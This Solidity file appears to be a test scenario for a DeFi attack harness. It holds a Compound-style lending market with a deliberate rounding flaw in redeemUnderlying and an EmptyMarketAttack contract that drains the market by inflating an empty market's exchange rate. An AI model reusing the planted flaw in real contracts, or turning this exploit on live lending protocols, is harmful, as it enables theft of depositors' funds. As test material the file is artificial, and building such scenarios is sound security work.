// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A money market after Compound v2: shares at an exchange rate of cash, borrows and supply.
contract Market is Token {
    IERC20 public immutable underlying;
    Comptroller public immutable comptroller;
    uint256 public totalBorrows;
    mapping(address => uint256) public borrowed;

    event Mint(address minter, uint256 mintAmount, uint256 mintTokens);
    event Redeem(address redeemer, uint256 redeemAmount, uint256 redeemTokens);
    event Borrow(address borrower, uint256 borrowAmount, uint256 accountBorrows, uint256 totalBorrows);
    event RepayBorrow(address payer, address borrower, uint256 repayAmount, uint256 accountBorrows, uint256 totalBorrows);

    constructor(IERC20 underlying_, Comptroller comptroller_) Token("cTKN", 8) {
        (underlying, comptroller) = (underlying_, comptroller_);
    }

    function exchangeRateStored() public view returns (uint256) {
        if (totalSupply == 0) return 2e26;
        return (underlying.balanceOf(address(this)) + totalBorrows) * 1e18 / totalSupply;
    }

    function getAccountSnapshot(address who) external view returns (uint256, uint256, uint256, uint256) {
        return (0, balanceOf[who], borrowed[who], exchangeRateStored());
    }

    function mint(uint256 amount) external {
        uint256 shares = amount * 1e18 / exchangeRateStored();
        underlying.transferFrom(msg.sender, address(this), amount);
        _mint(msg.sender, shares);
        emit Mint(msg.sender, amount, shares);
    }

    function redeem(uint256 shares) external {
        uint256 amount = shares * exchangeRateStored() / 1e18;
        _redeem(shares, amount);
    }

    /// Shares for an amount are rounded in favour of who asks.
    function redeemUnderlying(uint256 amount) external {
        _redeem(amount * 1e18 / exchangeRateStored(), amount);
    }

    function _redeem(uint256 shares, uint256 amount) private {
        _burn(msg.sender, shares);
        require(comptroller.liquid(msg.sender), "liquidity");
        underlying.transfer(msg.sender, amount);
        emit Redeem(msg.sender, amount, shares);
    }

    function borrow(uint256 amount) external {
        borrowed[msg.sender] += amount;
        totalBorrows += amount;
        require(comptroller.liquid(msg.sender), "liquidity");
        underlying.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount, borrowed[msg.sender], totalBorrows);
    }

    function repayBorrow(uint256 amount) external {
        underlying.transferFrom(msg.sender, address(this), amount);
        borrowed[msg.sender] -= amount;
        totalBorrows -= amount;
        emit RepayBorrow(msg.sender, msg.sender, amount, borrowed[msg.sender], totalBorrows);
    }
}

/// Every token is a dollar; four fifths of what one has may be owed.
contract Comptroller {
    Market[] public markets;

    function list(Market market) external {
        markets.push(market);
    }

    function liquid(address who) external view returns (bool) {
        uint256 has;
        uint256 owes;
        for (uint256 i; i < markets.length; i++) {
            (, uint256 shares, uint256 debt, uint256 rate) = markets[i].getAccountSnapshot(who);
            has += shares * rate / 1e18;
            owes += debt;
        }
        return has * 4 / 5 >= owes;
    }
}

contract EmptyMarketScene is Scene {
    Token public usd;
    Token public coin = new Token("NEWC", 18);
    Market public busy;
    Market public empty;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "NEWC", 18, 1e6);
        Comptroller comptroller = new Comptroller();
        busy = new Market(IERC20(address(usd)), comptroller);
        empty = new Market(IERC20(address(coin)), comptroller);
        comptroller.list(busy);
        comptroller.list(empty);
        usd.mint(address(this), 2_000_000e18);
        usd.approve(address(busy), type(uint256).max);
        busy.mint(2_000_000e18);
        _protect(address(busy));
        _protect(address(empty));
        coin.mint(address(this), 1e18);
        _loan(IERC20(address(coin)), 3_000_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(coin));
        atomic = true;
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 400_000e18, address(busy));
    }

    /// A faucet: anybody may have a little of the new coin.
    function drip() external {
        coin.transfer(msg.sender, 1_000);
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        uint256 held = busy.balanceOf(who);
        uint256 owed = busy.borrowed(who);
        uint256 worth = held * busy.exchangeRateStored() / 1e18;
        if (kind == 0 && worth / 2 > owed + 10e18) return (address(busy), 0, abi.encodeCall(Market.borrow, (worth / 2 - owed)));
        if (kind == 1 && owed > 0) return (address(busy), 0, abi.encodeCall(Market.repayBorrow, (owed)));
        if (kind == 2 && held > 0 && owed == 0) return (address(busy), 0, abi.encodeCall(Market.redeem, (held)));
        return (address(busy), 0, abi.encodeWithSignature("mint(uint256)", _amount(dice, 100e18, 5_000e18)));
    }
}

contract EmptyMarketAttack is Attack {
    Market private immutable busy;
    Market private immutable empty;
    EmptyMarketScene private immutable faucet;

    constructor(EmptyMarketScene scene) Attack(scene) {
        (busy, empty, faucet) = (scene.busy(), scene.empty(), scene);
    }

    /// Two base units of shares are made worth everything, all else is borrowed, and rounding gives the gift back.
    function _act(uint256, uint256, uint256) internal override {
        loanToken.approve(address(empty), type(uint256).max);
        empty.mint(400_000_000);
        // The lender gets every unit back, and rounding keeps one.
        faucet.drip();
        uint256 gift = loanToken.balanceOf(address(this)) - 1_000;
        loanToken.transfer(address(empty), gift);
        uint256 cash = loot0.balanceOf(address(busy));
        busy.borrow(cash < gift * 3 / 4 ? cash : gift * 3 / 4);
        // One of the two shares pays for a little less than both.
        uint256 rate = empty.exchangeRateStored();
        empty.redeemUnderlying(rate * 2 / 1e18 - 1);
    }
}
